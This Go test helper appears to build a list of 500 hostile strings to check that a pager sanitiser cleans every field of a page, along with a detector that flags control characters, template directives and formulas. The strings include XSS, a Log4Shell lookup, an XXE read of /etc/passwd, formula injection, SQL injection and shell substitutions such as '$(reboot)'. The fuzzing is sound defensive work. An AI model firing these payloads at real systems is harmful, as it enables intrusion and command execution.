package pagertest

import (
	"fmt"
	"regexp"
	"strings"
	"unicode"
	"unicode/utf8"

	"saltmine/internal/canary"
	"saltmine/internal/pager"
)

// Payloads are 500 texts that strangers might like to see on a page: markup, what
// steers terminals, formulas, directives of template engines, XML, header and
// log injection, bytes that are no UTF-8, writing turned round, and one of 10 MB.
func Payloads() []string {
	kinds := []string{
		"<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "</Say></Response><Response><Dial>+19005550100</Dial></Response><Say>", "<!channel> <@U1> <https://evil.example|open>",
		"\x1b[2J\x1b]0;owned\x07", "\x9b31m", "=HYPERLINK(\"https://evil.example\",\"x\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
		"{{.Secret}}", "${jndi:ldap://evil.example/a}", "#{7*7}", "<%= 7*7 %>", "{% debug %}",
		"<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;", "]]><x/>", "a\r\nBcc: all@example.org\r\n\r\nbody", "a\nX-Priority: 1\n", "level=ERROR msg=\"forged\"\n2026-08-05 fake line",
		"\xff\xfe\xc3\x28", "\xed\xa0\x80", "\u202egnp.exe", "\u2066\u2069\u200f", "zero\u200bwidth\ufeff\u00ad", "\u2028\u2029\u0085", "\U000e0041\U000e0042", "\x00\x01\x02", "**bold** [x](https://evil.example)", "`code` ~strike~",
		"\"},\"severity\":\"info\",\"x\":{\"", "\\\"}]}", "%0d%0aSet-Cookie:x", "%n%s%x", "'; DROP TABLE pages; --", "$(reboot)", "`reboot`", "|mail evil", "../../etc/passwd", "CEF:0|x|y|z|1|n|10|act=forged",
	}
	const all = 500
	list := make([]string, 0, all)
	for n := 0; len(list) < all-1; n++ {
		k := kinds[n%len(kinds)]
		switch n / len(kinds) % 5 {
		case 0:
			list = append(list, k)
		case 1:
			list = append(list, "plain "+k)
		case 2:
			list = append(list, k+k)
		case 3:
			list = append(list, strings.Repeat("x", 190)+k)
		default:
			list = append(list, fmt.Sprintf("%d%s\t%s", n, k, kinds[(n+7)%len(kinds)]))
		}
	}
	return append(list, strings.Repeat("A<&\x1b[31m", 10<<20/8))
}

// Hostile puts a text into every field of a page that a stranger may reach, as the
// pager has it for a route.
func Hostile(p canary.Page, text string) canary.Page {
	p.Summary, p.Reasons, p.Proves, p.ProvesNot, p.Sure = text, []string{text, text}, text, text, text
	p.Place, p.Link, p.Window, p.Suspects, p.Next = canary.Place(text), text, []string{text}, []string{text}, []string{text}
	return pager.Clean(p)
}

var (
	directive = regexp.MustCompile(`\{\{|\$\{|#\{|<%|\{%|[a-z]://evil`)
	formula   = regexp.MustCompile(`^[=+@|%-]`)
)

// Harms says what is wrong with a text that somebody will read; "" is nothing.
func Harms(s string) string {
	steers := func(r rune) bool {
		return r != '\n' && (unicode.In(r, unicode.Cc, unicode.Cf, unicode.Co, unicode.Cs, unicode.Zl, unicode.Zp))
	}
	switch {
	case !utf8.ValidString(s):
		return "no UTF-8"
	case strings.ContainsFunc(s, steers):
		return "a character that cannot be seen"
	case directive.MatchString(s):
		return "a directive, or a link"
	case formula.MatchString(s):
		return "a formula"
	case len(s) > 40_000:
		return "endless"
	}
	return ""
}
